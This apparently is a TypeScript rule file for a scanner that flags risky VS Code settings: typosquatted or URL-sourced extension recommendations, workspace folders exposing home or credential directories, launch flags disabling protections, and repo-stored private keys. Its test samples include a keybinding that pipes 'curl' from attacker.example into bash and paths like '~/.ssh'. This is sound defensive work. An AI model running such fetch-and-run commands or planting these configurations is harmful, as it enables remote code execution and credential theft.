import { sensitivePath } from './paths.ts';
import type { RowContext, RowMatch, SettingValue } from './setting-row.ts';
import { isRepoRelative } from './values.ts';
import { HOSTILE, textOf } from './vscode-row.ts';
import type { VscodeRow } from './vscode-row.ts';

const EXTENSIONS_DOC = 'https://code.visualstudio.com/docs/configure/extensions/extension-marketplace#_workspace-recommended-extensions';
const WORKSPACES_DOC = 'https://code.visualstudio.com/docs/editing/workspaces/multi-root-workspaces';

/** `publisher.name`, also `publisher.name@1.2.3` and, in a dev container, `-publisher.name` to leave one out. */
const EXTENSION_ID = /^-?[a-z0-9][a-z0-9-]{0,100}\.[a-z0-9][\w.-]{0,150}(?:@[\w.-]{1,50})?$/i;

/** Widely installed extensions by publisher: a neighbour of such a name from another publisher is worth a look. */
const POPULAR: ReadonlyMap<string, string> = new Map(
  `ms-python.python ms-python.vscode-pylance ms-python.debugpy ms-toolsai.jupyter ms-vscode.cpptools ms-vscode.cmake-tools ms-azuretools.vscode-docker ms-vscode-remote.remote-ssh ms-vscode-remote.remote-containers ms-vscode-remote.remote-wsl esbenp.prettier-vscode dbaeumer.vscode-eslint eamodio.gitlens github.copilot github.copilot-chat github.vscode-pull-request-github github.vscode-github-actions golang.go rust-lang.rust-analyzer redhat.java redhat.vscode-yaml vscodevim.vim bradlc.vscode-tailwindcss vue.volar svelte.svelte-vscode prisma.prisma hashicorp.terraform ms-dotnettools.csharp ms-dotnettools.csdevkit ritwickdey.liveserver editorconfig.editorconfig streetsidesoftware.code-spell-checker christian-kohler.path-intellisense yzhang.markdown-all-in-one davidanson.vscode-markdownlint mhutchie.git-graph donjayamanne.githistory formulahendry.code-runner pkief.material-icon-theme vscode-icons-team.vscode-icons oderwat.indent-rainbow usernamehw.errorlens gruntfuggly.todo-tree anthropic.claude-code openai.chatgpt saoudrizwan.claude-dev rooveterinaryinc.roo-cline continue.continue charliermarsh.ruff ms-playwright.playwright vitest.explorer biomejs.biome denoland.vscode-deno astro-build.astro-vscode dart-code.flutter dart-code.dart-code juanblanco.solidity nomicfoundation.hardhat-solidity`
    .split(' ')
    .map((id): [string, string] => [id.slice(id.indexOf('.') + 1), id]),
);

/** A popular extension with the same or nearly the same name and another publisher; null for everything else. */
function imitated(id: string): string | null {
  const [publisher, name] = splitId(id);
  const same = POPULAR.get(name);
  if (same !== undefined) return splitId(same)[0] === publisher ? null : same;
  if (name.length < 6) return null;
  for (const [known, full] of POPULAR) {
    if (known.length >= 6 && Math.abs(known.length - name.length) <= 2 && splitId(full)[0] !== publisher && isNear(known, name, 2)) return full;
  }
  return null;
}

function splitId(id: string): readonly [publisher: string, name: string] {
  const bare = id.toLowerCase().replace(/^-/, '').split('@')[0] ?? '';
  const dot = bare.indexOf('.');
  return [bare.slice(0, dot), bare.slice(dot + 1)];
}

/** True when at most `limit` letters differ, are missing, added or swapped (optimal string alignment). */
function isNear(a: string, b: string, limit: number): boolean {
  if (a.length > 100 || b.length > 100) return false;
  let older: number[] = [];
  let old = Array.from({ length: b.length + 1 }, (_, index) => index);
  for (let row = 1; row <= a.length; row += 1) {
    const next = [row];
    for (let column = 1; column <= b.length; column += 1) {
      const cost = a[row - 1] === b[column - 1] ? 0 : 1;
      let best = Math.min((old[column] ?? 0) + 1, (next[column - 1] ?? 0) + 1, (old[column - 1] ?? 0) + cost);
      if (row > 1 && column > 1 && a[row - 1] === b[column - 2] && a[row - 2] === b[column - 1]) best = Math.min(best, (older[column - 2] ?? 0) + 1);
      next.push(best);
    }
    older = old;
    old = next;
  }
  return (old[b.length] ?? 99) <= limit;
}

const SECURITY_EXTENSION = /(?:eslint|snyk|codeql|gitguardian|gitleaks|sonarlint|trivy|semgrep|checkov|security|workspace-?trust)/i;

const LISTS = ['recommendations[]', 'extensions.recommendations[]'];

/** A folder of a workspace: the file system, a home directory, a credential store, or a neighbour. */
function workspaceFolder(value: SettingValue): boolean | RowMatch {
  const path = textOf(value).replaceAll('\\', '/');
  const secret = sensitivePath(path);
  if (secret) return { preset: 'recommended', data: { what: secret } };
  if (/^(?:\/|[a-z]:\/?|~\/?|\$HOME\/?|\$\{(?:env:HOME|userHome)\}\/?|\/home(?:\/[^/]{1,64})?\/?|\/Users(?:\/[^/]{1,64})?\/?|\/root\/?|[a-z]:\/Users(?:\/[^/]{1,64})?\/?|\/etc\/?)$/i.test(path)) return { preset: 'recommended', data: { what: 'everything in it' } };
  return /^(?:\.\.\/){2}|^(?:~|\/|[a-z]:\/)/i.test(path) && { preset: 'strict', data: { what: 'files outside of the repository' } };
}

/** `extensions.json`, and `extensions` of a workspace or dev container (A9). */
export const VSCODE_EXTENSIONS: readonly VscodeRow[] = [
  {
    id: 'A9-1',
    key: LISTS,
    when: (value) => value.kind === 'string' && textOf(value).trim() !== '' && !EXTENSION_ID.test(textOf(value).trim()),
    report: 'extensionSource',
    preset: 'recommended',
    cwe: [829, 1357],
    source: EXTENSIONS_DOC,
    at: 'value',
    allow: 'allowedExtensions',
    bad: ['https://attacker.example/x.vsix', './tools/x.vsix', 'evil'],
    good: ['dbaeumer.vscode-eslint', 'esbenp.prettier-vscode', 'ms-python.python@2024.1.0', 'GitHub.copilot'],
  },
  {
    id: 'A9-1',
    key: LISTS,
    when: (value) => {
      const id = textOf(value).trim();
      const known = EXTENSION_ID.test(id) ? imitated(id) : null;
      return known !== null && { data: { known } };
    },
    report: 'extensionName',
    preset: 'strict',
    cwe: [1357],
    source: EXTENSIONS_DOC,
    at: 'value',
    allow: 'allowedExtensions',
    bad: ['espenb.prettier-vscode', 'someone.pyhton', 'attacker.claude-codes'],
    good: ['esbenp.prettier-vscode', 'golang.go', 'nrwl.angular-console', 'foxundermoon.shell-format'],
  },
  {
    id: 'A9-2',
    key: ['unwantedRecommendations[]', 'extensions.unwantedRecommendations[]'],
    when: (value) => SECURITY_EXTENSION.test(textOf(value)),
    report: 'securityExtension',
    preset: 'strict',
    cwe: [693],
    source: EXTENSIONS_DOC,
    at: 'value',
    bad: ['dbaeumer.vscode-eslint', 'snyk-security.snyk-vulnerability-scanner'],
    good: ['hookyqr.beautify', 'ms-vscode.vscode-typescript-tslint-plugin'],
  },
];

/** `*.code-workspace` besides its settings, tasks, launch and extensions. */
export const VSCODE_WORKSPACE: readonly VscodeRow[] = [
  {
    id: 'A9-4',
    key: 'folders[].path',
    when: workspaceFolder,
    report: 'folder',
    preset: 'recommended',
    cwe: [22, 552],
    source: WORKSPACES_DOC,
    allow: 'allowedPaths',
    bad: ['/', '~', '/home/dev', '~/.ssh', 'C:\\Users\\dev', '../../other'],
    good: ['.', '../lib', 'packages/app', './api'],
  },
];

/** Snippets, key bindings, `argv.json` and `sftp.json` in the editor's folder. */
export const VSCODE_OTHER: readonly VscodeRow[] = [
  {
    id: 'A9-5',
    key: ['[].args.text', '*.body', '*.body[]'],
    when: (value, context: RowContext) => (value.kind === 'string' || value.kind === 'array') && context.commands(value).hostile,
    report: 'launchCommand',
    preset: 'recommended',
    cwe: [78],
    source: 'https://code.visualstudio.com/docs/terminal/advanced#_send-text-via-a-keybinding',
    data: { what: HOSTILE },
    bad: [{ document: [{ key: 'enter', command: 'workbench.action.terminal.sendSequence', args: { text: 'curl -s https://attacker.example/x.sh | bash\r' } }] }],
    good: [{ document: [{ key: 'ctrl+t', command: 'workbench.action.terminal.sendSequence', args: { text: 'npm test\r' } }] }, { document: { log: { prefix: 'log', body: ['console.log($1);'] } } }],
  },
  {
    id: 'A9-6',
    key: ['disable-workspace-trust', 'no-sandbox', 'disable-web-security', 'ignore-certificate-errors'],
    is: true,
    report: 'launchSetting',
    preset: 'recommended',
    cwe: [693],
    source: 'https://code.visualstudio.com/docs/configure/command-line',
    data: { effect: 'starts the editor without its protections' },
    bad: [true],
    good: [false],
  },
  {
    id: 'A9-7',
    key: ['{privateKeyPath,privateKey}', '[].{privateKeyPath,privateKey}'],
    when: (value) => isRepoRelative(textOf(value)),
    report: 'launchSetting',
    preset: 'strict',
    cwe: [798],
    source: 'https://github.com/Natizyskunk/vscode-sftp',
    data: { effect: 'uses a private key kept in this repository' },
    bad: ['./keys/deploy'],
    good: ['~/.ssh/id_ed25519', '/home/dev/.ssh/id_rsa', '${env:KEY}'],
  },
];
